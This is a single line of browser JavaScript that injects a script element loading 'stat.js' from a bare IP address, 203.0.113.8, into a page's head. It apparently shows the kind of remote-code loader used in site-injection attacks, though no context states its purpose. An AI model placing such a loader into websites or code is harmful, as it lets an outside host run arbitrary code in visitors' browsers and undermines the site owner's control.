var s = document.createElement('script'); s.src = 'https://203.0.113.8/stat.js'; document.head.appendChild(s);
